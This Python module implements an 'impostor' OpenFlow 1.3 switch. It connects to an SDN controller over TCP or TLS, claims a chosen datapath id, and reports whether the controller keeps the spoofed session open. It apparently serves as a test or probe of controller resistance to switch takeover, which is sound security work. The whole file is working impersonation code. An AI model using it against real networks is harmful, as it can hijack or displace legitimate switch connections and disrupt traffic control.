"""An impostor switch: a raw OpenFlow 1.3 client that claims a datapath id, over plain TCP or TLS.

It answers HELLO and FEATURES_REQUEST (with the dpid it claims) and echo requests, and reports whether the
controller kept the connection open, which is all a takeover needs."""
from __future__ import annotations

import socket
import ssl
import struct
import time

OFP_VERSION = 4
HELLO, ECHO_REQUEST, ECHO_REPLY, FEATURES_REQUEST, FEATURES_REPLY = 0, 2, 3, 5, 6


def _message(kind: int, xid: int, body: bytes = b"") -> bytes:
    return struct.pack("!BBHI", OFP_VERSION, kind, 8 + len(body), xid) + body


class Impostor:
    def __init__(self, host: str, port: int, dpid: str, tls: tuple[str, str, str] | None = None):
        """``tls``: (key, certificate, CA) to present; None for plain TCP."""
        self.dpid = int(dpid, 16)
        raw = socket.create_connection((host, port), timeout=10)
        if tls:
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            ctx.check_hostname = False  # OVS does not check the controller's name either, only its CA
            ctx.load_cert_chain(tls[1], tls[0])
            ctx.load_verify_locations(tls[2])
            raw = ctx.wrap_socket(raw)
        self.sock = raw
        self.features_requested = False

    def _read(self) -> tuple[int, int, bytes] | None:
        header = b""
        while len(header) < 8:
            chunk = self.sock.recv(8 - len(header))
            if not chunk:
                return None
            header += chunk
        _, kind, length, xid = struct.unpack("!BBHI", header)
        body = b""
        while len(body) < length - 8:
            chunk = self.sock.recv(length - 8 - len(body))
            if not chunk:
                return None
            body += chunk
        return kind, xid, body

    def handshake_and_hold(self, seconds: float) -> bool:
        """Say HELLO, answer FEATURES with the claimed dpid, keep answering for ``seconds``; True when the
        controller still holds the connection open at the end."""
        self.sock.sendall(_message(HELLO, 1))
        deadline = time.monotonic() + seconds
        try:
            while time.monotonic() < deadline:
                self.sock.settimeout(max(0.1, deadline - time.monotonic()))
                try:
                    got = self._read()
                except (socket.timeout, TimeoutError):
                    return True
                if got is None:
                    return False
                kind, xid, body = got
                if kind == FEATURES_REQUEST:
                    self.features_requested = True
                    # datapath_id, n_buffers, n_tables, auxiliary_id, pad, capabilities, reserved
                    self.sock.sendall(_message(FEATURES_REPLY, xid, struct.pack("!QIBB2xII", self.dpid, 0, 254, 0,
                                                                                0, 0)))
                elif kind == ECHO_REQUEST:
                    self.sock.sendall(_message(ECHO_REPLY, xid, body))
        except (ConnectionError, ssl.SSLError, OSError):
            return False
        return True

    def close(self) -> None:
        self.sock.close()
